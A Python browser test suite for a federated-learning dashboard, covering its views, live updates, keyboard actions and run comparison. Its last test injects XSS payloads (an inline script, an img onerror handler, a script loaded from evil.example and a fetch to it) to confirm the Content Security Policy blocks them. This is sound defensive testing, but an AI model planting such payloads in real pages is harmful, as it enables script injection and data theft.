"""The dashboard in a real Chromium: every view, live updates, keyboard, dark and narrow, hostile texts, no complaint in the console."""

from __future__ import annotations

import json

import pytest

from browser import PHONE, WIDE, browser, program
from dashboards import HOSTILE, cluster, event, history, row, run

VIEWS = (
    "/",
    "/runs",
    "/clusters",
    "/clusters/site-a",
    *(f"/runs/ns/digits{tab}" for tab in ("", "/clusters", "/placement", "/events", "/logs")),
)


@pytest.fixture(autouse=True)
def chromium():
    program()


async def test_every_view_in_a_browser(api, laptop):
    rounds = [row(number, 0.8, metrics=dict.fromkeys(HOSTILE, 0.5)) for number in (1, 2)]
    await api.change(
        run(message=HOSTILE[1], headlineMetric=HOSTILE[0]),
        history(rounds=rounds),
        event(HOSTILE[0]),
        cluster("site-a", **{HOSTILE[1]: HOSTILE[0]}),
    )
    async with laptop() as (address, visitor), browser() as tab:
        await tab.look(WIDE)
        paint = await tab.open(address)
        print(f"first contentful paint: {paint:.0f} ms")
        for size, dark in ((WIDE, False), (PHONE, True)):
            await tab.look(size, dark)
            for path in VIEWS:
                await tab.open(visitor.base + path)
                await tab.until("document.getElementById('connection').dataset.state === 'live'", f"{path} is live")
                assert not await tab.overflows(), (path, size)
                assert not await tab.evaluate("!!document.querySelector('main img')"), path
        assert tab.complaints == []
        assert tab.origins == {visitor.base}


async def test_a_change_comes_to_the_screen_and_the_reader_keeps_his_place(api, laptop):
    async with laptop() as (address, visitor), browser() as tab:
        await tab.look(WIDE)
        await tab.open(address)
        await tab.open(f"{visitor.base}/runs/ns/digits")
        await tab.until("document.getElementById('connection').dataset.state === 'live'", "the page is live")
        await tab.evaluate(
            "window.mark = 1; document.getElementById('to-clusters').focus(); document.getElementById('chart-0-values').open = true"
        )
        await api.change(
            run(completed=3, headlineMetric="accuracy 0.95", rounds={"completed": 3, "total": 5, "seconds": 12.0, "replies": 7})
        )
        took = await tab.until("document.body.innerText.includes('accuracy 0.95')", "the change is on the screen")
        print(f"event to screen: {took * 1000:.0f} ms")
        await api.change(history(rounds=[row(1, 0.8), row(2, 0.91), row(3, 0.95)]))
        await tab.until("document.querySelector('#chart-0-d').textContent.includes('round 3')", "the chart has the round")
        await tab.until("document.body.innerText.includes('7 replies')", "the tile has the round")
        assert await tab.evaluate("window.mark") == 1, "the page was loaded again"
        assert await tab.evaluate("document.activeElement.id") == "to-clusters"
        assert await tab.evaluate("document.getElementById('chart-0-values').open")
        assert tab.complaints == []


async def test_filters_and_actions_by_keyboard(api, laptop):
    await api.change(*(run(f"run-{number:03}", phase="Completed") for number in range(120)))
    async with laptop() as (address, visitor), browser() as tab:
        await tab.look(WIDE)
        await tab.open(address)
        await tab.open(f"{visitor.base}/runs")
        await tab.until("document.getElementById('connection').dataset.state === 'live'", "the page is live")
        await tab.press("/", "/")
        await tab.write("run-11")
        await tab.until("document.querySelectorAll('.list tbody tr').length === 10", "the list is filtered")
        assert await tab.evaluate("document.activeElement.id") == "filter-text"
        assert "text=run-11" in str(await tab.evaluate("location.search"))
        await api.change(run("run-118", phase="Failed"))
        await tab.until("document.querySelector('.list').innerText.includes('Failed')", "the filtered list is live")
        await tab.open(f"{visitor.base}/runs")
        await tab.click("#page-next")
        await tab.until("location.search === '?page=2' && document.body.innerText.includes('51 to 100')", "the next page is shown")

        await tab.open(f"{visitor.base}/runs/ns/digits")
        await tab.evaluate("document.getElementById('do-suspend').focus()")
        await tab.press("Enter", "\r")
        await tab.until("document.body.innerText.includes('The run is being suspended')", "it is suspended")
        await tab.click("#do-stop")
        await tab.until("!!document.getElementById('confirm-stop')", "it asks first")
        await tab.click("#confirm-stop")
        await tab.until("document.body.innerText.includes('The run is being stopped')", "it is stopped")
        assert tab.complaints == []
    assert [json.dumps(api.objects["federatedlearnings", "ns", "digits"]["spec"][field]) for field in ("suspend", "stop")] == [
        "true",
        "true",
    ]


async def test_a_run_is_compared_with_another_and_a_cluster_emphasised(api, laptop):
    ended = {"completionTime": "2026-03-01T12:00:00Z"}
    await api.change(
        run(metrics={"accuracy": 0.91}),
        run("first", phase="Completed", metrics={"accuracy": 0.95}, **ended),
        history("first", rounds=[row(1, 0.9), row(2, 0.95)]),
    )
    async with laptop() as (address, visitor), browser() as tab:
        await tab.look(WIDE)
        await tab.open(address)
        await tab.open(f"{visitor.base}/runs/ns/digits?show=site-b")
        await tab.until("document.getElementById('connection').dataset.state === 'live'", "the page is live")
        await tab.evaluate(
            "document.getElementById('compare-with').value = 'first';"
            "document.getElementById('compare-with').dispatchEvent(new Event('change', {bubbles: true}))"
        )
        await tab.until("document.body.innerText.includes('-0.04 (worse)')", "the difference is shown")
        await tab.until("location.search === '?show=site-b&with=first'", "the address has the choice")
        assert await tab.evaluate("document.querySelectorAll('.line.s7').length") == 2  # in the chart, and in its legend
        assert await tab.evaluate("!!document.querySelector('.line.strong') && !!document.querySelector('.line.dim')")
        await api.change(run(metrics={"accuracy": 0.97}))
        await tab.until("document.body.innerText.includes('+0.02 (better)')", "the comparison is live")
        await tab.click("#all-clusters")
        await tab.until("!document.querySelector('.line.dim') && location.search === '?with=first'", "all clusters are shown alike")
        assert tab.complaints == []


async def test_the_policy_holds_in_the_browser(laptop):
    """If a text became markup all the same, the browser would not run it, and would not send anything elsewhere."""
    async with laptop() as (address, visitor), browser() as tab:
        await tab.open(address)
        await tab.open(f"{visitor.base}/runs")
        attempt = """(() => {
            const inline = document.createElement('script'); inline.textContent = 'window.broken = 1'; document.body.append(inline);
            const div = document.createElement('div'); div.innerHTML = '<img src=x onerror="window.broken = 2">'; document.body.append(div);
            document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}));
        })()"""
        await tab.evaluate(attempt)
        await tab.evaluate("fetch('https://evil.example/').catch(() => 0)")
        assert await tab.evaluate("window.broken ?? 0") == 0
        assert len([each for each in tab.complaints if "Content Security Policy" in each]) >= 3
        await tab.evaluate("document.body.append(Object.assign(document.createElement('iframe'), {src: '/runs'}))")
        await tab.until("true", "the browser has answered")
        assert [each for each in tab.complaints if "Framing" in each or "frame-src" in each or "frame-ancestors" in each], tab.complaints
